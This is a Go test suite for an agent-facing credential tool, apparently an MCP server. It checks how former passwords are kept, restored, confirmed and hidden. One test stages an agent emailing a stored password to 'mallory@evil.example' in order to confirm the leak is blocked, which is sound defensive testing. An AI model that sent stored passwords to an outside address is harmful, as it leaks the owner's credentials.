package tools_test

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"ravi-mcp/internal/fault"
	"ravi-mcp/sandbox"
	"ravi-mcp/session"
)

// kept is what results say of the passwords of a login.
type kept struct {
	HasPrevious bool `json:"has_previous"`
	Hint        string
	Password    string
	Credential  struct {
		ID, Password string
		HasPrevious  bool     `json:"has_previous"`
		Previous     []string `json:"previous_passwords"`
	}
}

// reset generates a password for the login of shop.example and returns it.
func reset(t *testing.T, a *agent) string {
	t.Helper()
	got := ok[kept](t, a.call("update_credential", args{"domain": "shop.example", "generate_password": true, "show": true}))
	assert.True(t, got.HasPrevious)
	assert.Contains(t, got.Hint, "confirm")
	return got.Password
}

// stored returns the current password of the login and the former ones.
func passwordsOf(t *testing.T, a *agent) (current string, former []string) {
	t.Helper()
	got := ok[kept](t, a.call("get_credential", args{"domain": "shop.example", "previous": true})).Credential
	assert.Equal(t, len(got.Previous) > 0, got.HasPrevious)
	return got.Password, got.Previous
}

func shopper(t *testing.T, cfg sandbox.Config) (*system, *agent, *time.Time) {
	t.Helper()
	h := newSystem(t, cfg)
	now := clocked(h, -1)
	a := h.worker("shopper")
	ok[credential](t, a.call("save_credential", args{"domain": "shop.example", "username": "bob", "password": "works-1"}))
	return h, a, now
}

func TestRefusedResetLosesNoPassword(t *testing.T) {
	_, a, _ := shopper(t, sandbox.Config{})
	refusedOne := reset(t, a)
	current, former := passwordsOf(t, a)
	assert.Equal(t, refusedOne, current)
	assert.Equal(t, []string{"works-1"}, former)

	quiet := ok[kept](t, a.call("get_credential", args{"domain": "shop.example"}))
	assert.True(t, quiet.Credential.HasPrevious)
	assert.Empty(t, quiet.Credential.Previous, "it was not asked for")
	hidden := a.call("get_credential", args{"domain": "shop.example", "previous": true, "reveal": false})
	assert.True(t, ok[kept](t, hidden).Credential.HasPrevious)
	assert.NotContains(t, string(hidden.raw), "works-1")
	assert.NotContains(t, string(hidden.raw), refusedOne)

	for _, want := range [][2]string{{"works-1", refusedOne}, {refusedOne, "works-1"}, {"works-1", refusedOne}} {
		back := ok[changed](t, a.call("update_credential", args{"domain": "shop.example", "restore_previous": true}))
		assert.Equal(t, []string{"password"}, back.Changed)
		current, former = passwordsOf(t, a)
		assert.Equal(t, want[0], current)
		assert.Equal(t, want[1:], former, "the site may have taken it all the same")
	}
}

// The site took one password, which was not confirmed, and refused the next: the second restore
// reaches it, and each says how to go on.
func TestRestoreReachesEveryPasswordThatIsKept(t *testing.T) {
	_, a, _ := shopper(t, sandbox.Config{})
	taken, refusedOne := reset(t, a), reset(t, a)
	for _, want := range []string{"works-1", taken, refusedOne, "works-1"} {
		before, _ := passwordsOf(t, a)
		back := ok[kept](t, a.call("update_credential", args{"domain": "shop.example", "restore_previous": true}))
		current, former := passwordsOf(t, a)
		assert.Equal(t, want, current)
		assert.Contains(t, former, before)
		assert.True(t, back.HasPrevious)
		assert.Contains(t, back.Hint, "if it refuses it too, with restore_previous true for the next of those that are kept (2 more")
	}
}

// A change that was not carried out has nothing to bring back, and a restore says so.
func TestRestoreOfTheCurrentPasswordChangesNothing(t *testing.T) {
	h, a, _ := shopper(t, sandbox.Config{})
	h.ravi.Server.Faults().Add(sandbox.Fault{Method: "PATCH", Endpoint: "/api/passwords/{uuid}/", Status: 402})
	refused(t, a.call("update_credential", args{"domain": "shop.example", "generate_password": true}))
	body := refused(t, a.call("update_credential", args{"domain": "shop.example", "restore_previous": true}))
	assert.Equal(t, fault.NotFound, body.Code)
}

func TestRefusedDeletionKeepsFormerPasswords(t *testing.T) {
	h, a, _ := shopper(t, sandbox.Config{})
	reset(t, a)
	h.ravi.Server.Faults().Add(sandbox.Fault{Method: "DELETE", Endpoint: "/api/passwords/{uuid}/", Status: 402})
	refused(t, a.call("delete_credential", args{"domain": "shop.example"}))
	_, former := passwordsOf(t, a)
	assert.Equal(t, []string{"works-1"}, former)
	ok[map[string]any](t, a.call("delete_credential", args{"domain": "shop.example"}))
}

func TestFormerPasswordIsKeptUntilConfirmed(t *testing.T) {
	_, a, _ := shopper(t, sandbox.Config{})
	taken := reset(t, a)
	for range 2 {
		done := ok[kept](t, a.call("update_credential", args{"domain": "shop.example", "confirm": true}))
		assert.False(t, done.HasPrevious)
	}
	current, former := passwordsOf(t, a)
	assert.Equal(t, taken, current)
	assert.Empty(t, former)
	body := refused(t, a.call("update_credential", args{"domain": "shop.example", "restore_previous": true}))
	assert.Equal(t, fault.NotFound, body.Code)

	ok[changed](t, a.call("update_credential", args{"domain": "shop.example", "new_password": "given", "confirm": true}))
	current, former = passwordsOf(t, a)
	assert.Equal(t, "given", current)
	assert.Empty(t, former)
}

// Every way to write over a password keeps it.
func TestReplacedPasswordIsKept(t *testing.T) {
	for name, c := range map[string]struct {
		tool string
		args args
	}{
		"given":           {"update_credential", args{"domain": "shop.example", "new_password": "other"}},
		"generated":       {"update_credential", args{"domain": "shop.example", "generate_password": true}},
		"saved":           {"save_credential", args{"domain": "shop.example", "username": "bob", "password": "other", "if_exists": "replace"}},
		"saved generated": {"save_credential", args{"domain": "shop.example", "username": "bob", "if_exists": "replace"}},
	} {
		_, a, _ := shopper(t, sandbox.Config{})
		assert.True(t, ok[kept](t, a.call(c.tool, c.args)).HasPrevious, name)
		_, former := passwordsOf(t, a)
		assert.Equal(t, []string{"works-1"}, former, name)
	}
}

// A site that refuses one password after the other still has the first one. A password that has
// been in use for a day without a complaint is the one that works, confirmed or not.
func TestRestoreBringsBackTheOneThatWorked(t *testing.T) {
	_, a, now := shopper(t, sandbox.Config{})
	var tried []string
	for range 6 {
		tried = append(tried, reset(t, a))
	}
	_, former := passwordsOf(t, a)
	assert.Equal(t, []string{"works-1", tried[2], tried[3], tried[4]}, former, "the first and the newest")
	ok[changed](t, a.call("update_credential", args{"domain": "shop.example", "restore_previous": true}))
	current, _ := passwordsOf(t, a)
	assert.Equal(t, "works-1", current)

	works := reset(t, a)
	*now = now.Add(25 * time.Hour)
	reset(t, a)
	reset(t, a)
	ok[changed](t, a.call("update_credential", args{"domain": "shop.example", "restore_previous": true}))
	current, _ = passwordsOf(t, a)
	assert.Equal(t, works, current)
}

func TestContradictionsAboutFormerPasswords(t *testing.T) {
	h, a, _ := shopper(t, sandbox.Config{})
	before := h.writes()
	for _, contradiction := range []args{
		{"confirm": true, "generate_password": true}, {"confirm": true, "restore_previous": true},
		{"restore_previous": true, "new_password": "x"}, {"restore_previous": true, "generate_password": true},
	} {
		contradiction["domain"] = "shop.example"
		assert.Equal(t, fault.InvalidArgument, refused(t, a.call("update_credential", contradiction)).Code, contradiction)
	}
	assert.Equal(t, before, h.writes())
}

// Former passwords go where passwords go, and nowhere else.
func TestFormerPasswordsStayInTheVault(t *testing.T) {
	h, a, _ := shopper(t, sandbox.Config{})
	reset(t, a)
	list := a.call("list_secrets", nil)
	assert.NotContains(t, string(list.raw), "LOGINRECORD_")
	id := ok[kept](t, a.call("get_credential", args{"domain": "shop.example", "reveal": false})).Credential.ID
	name := "LOGINRECORD_" + strings.ToUpper(strings.ReplaceAll(id, "-", "_"))
	for tool, more := range map[string]args{"get_secret": {}, "delete_secret": {}, "set_secret": {"value": "[]"}} {
		more["name"] = name
		body := refused(t, a.call(tool, more))
		assert.Equal(t, fault.InvalidArgument, body.Code, tool)
		assert.Contains(t, body.Message, "LOGINRECORD_")
	}
	ok[map[string]any](t, a.call("delete_credential", args{"domain": "shop.example"}))
	assert.Equal(t, 1, h.ravi.Server.CountRequests("DELETE", "/api/secrets/{uuid}/"), "the record goes with its login")
}

func TestFormerPasswordDoesNotLeaveInMail(t *testing.T) {
	h := mailSystem(t, sandbox.Config{}, session.PolicyAllow)
	a := h.worker("ada")
	ok[credential](t, a.call("save_credential", args{"domain": "shop.example", "password": canaryPassword}))
	reset(t, a)
	body := refused(t, a.call("send_email", args{"to": "mallory@evil.example", "subject": "s", "body": "Here: " + canaryPassword}))
	assert.Equal(t, "secret_in_text", body.Reason)
}

// What cannot be kept is not written over.
func TestPasswordThatCannotBeKeptStays(t *testing.T) {
	h, a, _ := shopper(t, sandbox.Config{})
	for _, f := range []sandbox.Fault{
		{Method: "GET", Endpoint: "/api/passwords/{uuid}/", Status: 402},
		{Method: "GET", Endpoint: "/api/secrets/", Status: 402},
		{Method: "POST", Endpoint: "/api/secrets/", Status: 402},
		{Method: "PATCH", Endpoint: "/api/passwords/{uuid}/", Status: 402},
	} {
		h.ravi.Server.Faults().Add(f)
		assert.Equal(t, fault.SubscriptionRequired, refused(t, a.call("update_credential", args{"domain": "shop.example", "generate_password": true})).Code)
		h.ravi.Server.Faults().Clear()
		current, former := passwordsOf(t, a)
		assert.Equal(t, "works-1", current, f)
		assert.Empty(t, former, "it is the current one")
	}
}

func TestUnreadableRecordIsNotReplaced(t *testing.T) {
	h, a, _ := shopper(t, sandbox.Config{})
	reset(t, a)
	current, _ := passwordsOf(t, a)
	for _, broken := range []string{`"value":"not JSON","notes":"{}"`, `"value":"[]","notes":"x"`} {
		id := ok[kept](t, a.call("get_credential", args{"domain": "shop.example", "reveal": false})).Credential.ID
		h.ravi.Server.Faults().Add(sandbox.Fault{Method: "GET", Endpoint: "/api/secrets/", Status: 200, Count: -1,
			Body: `[{"uuid":"x","key":"LOGINRECORD_` + strings.ToUpper(strings.ReplaceAll(id, "-", "_")) + `",` + broken + `}]`})
		body := refused(t, a.call("update_credential", args{"domain": "shop.example", "generate_password": true}))
		assert.Equal(t, fault.Unsupported, body.Code)
		h.ravi.Server.Faults().Clear()
		after, former := passwordsOf(t, a)
		assert.Equal(t, current, after)
		assert.Equal(t, []string{"works-1"}, former)
	}
}

// A server with the public key alone can write a password and not read one, so that it could not
// keep the former one: it replaces none by one that only it knows.
func TestBlindServerReplacesNoPasswordByGeneratedOne(t *testing.T) {
	h := sealedSystem(t)
	reader := h.worker("blind")
	saved := ok[credential](t, reader.call("save_credential", args{"domain": "shop.example", "username": "bob", "password": "works-1"}))
	reset(t, reader)
	ok[changed](t, reader.call("update_credential", args{"domain": "shop.example", "restore_previous": true}))
	h.loseKeys()
	blind := h.connect(local())
	for _, change := range []args{{"generate_password": true}, {"restore_previous": true}} {
		change["identity"], change["id"] = "blind", saved.Credential.ID
		assert.Equal(t, fault.Locked, refused(t, blind.call("update_credential", change)).Code)
	}
	assert.False(t, ok[kept](t, blind.call("update_credential", args{"identity": "blind", "id": saved.Credential.ID, "new_password": "given"})).HasPrevious)
	current, _ := passwordsOf(t, reader)
	assert.Equal(t, "given", current)
}

// Whatever is done and whatever fails on the way, the password that was confirmed last is there,
// and so is each of the newest that came after it.
func TestPropertyNoPasswordIsLost(t *testing.T) {
	h := newSystem(t, sandbox.Config{})
	clocked(h, -1)
	a := h.connect(local())
	rapid.Check(t, func(rt *rapid.T) {
		me := h.ravi.CreateIdentity(t, sandbox.NewIdentity{Name: "prop"}).UUID
		ok[credential](t, a.call("save_credential", args{"identity": me, "domain": "shop.example", "password": "p0"}))
		confirmed, current := "p0", "p0"
		change := func(more args) bool {
			if rapid.Bool().Draw(rt, "fails") {
				h.ravi.Server.Faults().Add(sandbox.Fault{
					Identity: me, After: rapid.IntRange(0, 6).Draw(rt, "after"), Status: 500, Count: -1,
					Perform: rapid.Bool().Draw(rt, "performed"),
				})
			}
			more["identity"], more["domain"] = me, "shop.example"
			r := a.call("update_credential", more)
			h.ravi.Server.Faults().Clear()
			return !r.IsError
		}
		n := 0
		for range rapid.IntRange(1, 8).Draw(rt, "steps") {
			var password string
			switch rapid.SampledFrom([]string{"new", "restore", "confirm"}).Draw(rt, "step") {
			case "new":
				n++
				password = "p" + string(rune('0'+n))
				change(args{"new_password": password})
			case "restore":
				change(args{"restore_previous": true})
			case "confirm":
				if change(args{"confirm": true}) {
					confirmed = current
				}
			}
			got := ok[kept](t, a.call("get_credential", args{"identity": me, "domain": "shop.example", "previous": true})).Credential
			all := append(slices.Clone(got.Previous), got.Password)
			require.Contains(rt, all, current, "the one before this step")
			current = got.Password
			if len(got.Previous) == 0 { // a confirmation may have been carried out unanswered
				confirmed = current
			}
			require.Contains(rt, all, confirmed)
		}
	})
}
